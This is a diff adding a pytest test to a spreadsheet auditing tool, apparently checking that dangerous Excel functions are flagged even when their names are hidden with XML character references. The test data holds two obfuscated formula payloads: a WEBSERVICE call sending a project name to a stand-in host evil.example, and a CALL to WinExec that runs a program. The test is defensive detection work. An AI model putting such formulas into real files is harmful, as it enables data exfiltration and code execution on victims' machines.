@@ -385,3 +385,20 @@ def test_a_file_that_is_not_there_is_unreadable(tmp_path: Path) -> None:
     assert done.returncode == 2
     assert "bestand bestaat niet" in done.stderr and "Traceback" not in done.stderr
     assert done.stdout == ""
+
+
+@pytest.mark.parametrize("formula", [
+    '_xlfn.WEB&#x53;ERVICE("https://evil.example/?"&amp;projectnaam)',  # &#x53; is S
+    'CA&#76;L("kernel32","WinExec","JCJ","calc",0)',  # &#76; is L
+])
+def test_a_function_name_spelled_with_character_references_is_found(formula: str,
+                                                                     tmp_path: Path) -> None:
+    """A spreadsheet reads &#76; as L: the scan must read the formula as it does, and the
+    recompute then evaluates nothing of the file (an unsafe file gets no evaluation budget)."""
+    from xlcoop.audit import audit
+
+    path = alter_formula(fresh_example(), tmp_path / "t.xlsx", "netto_cashflow", formula)
+    report = audit(path)
+    assert report.status == "unsafe"
+    assert [f.params["function"] for f in report.by_code("dangerous_function")] in (
+        ["WEBSERVICE"], ["CALL"])
